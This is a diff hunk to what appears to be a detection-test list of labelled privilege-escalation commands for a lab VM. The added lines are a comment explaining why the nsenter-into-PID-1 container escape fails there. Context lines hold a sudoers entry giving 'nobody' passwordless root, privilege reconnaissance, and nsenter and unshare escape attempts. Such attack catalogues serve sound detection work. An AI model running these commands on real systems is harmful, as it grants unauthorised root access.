@@ -18,6 +18,9 @@ mkdir -p /etc/sudoers.d; echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/
 cat /etc/sudoers 2>/dev/null >/dev/null; find / -xdev -writable -type d -maxdepth 2 2>/dev/null | head; cat /proc/sys/kernel/unprivileged_userns_clone 2>/dev/null; getcap -r / 2>/dev/null | head; uname -r
 
 #@ id=priv-nsenter-pid1 kind=attack tactic=privilege_escalation technique=T1611 signal=exec title=nsenter into PID 1's namespaces
+# Exits 1 in this lab VM: its PID 1 is the VM's supervisor, whose /proc/1/ns/* links the kernel
+# refuses (EACCES) even to root with every capability, while other tasks' links open; nsenter
+# fails at that open, before any setns. The attempt is still detected (command line).
 nsenter -t 1 -m -u -i -n -p -- /bin/true
 
 #@ id=priv-unshare-root kind=attack tactic=privilege_escalation technique=T1611 signal=exec title=User namespace root via unshare -r
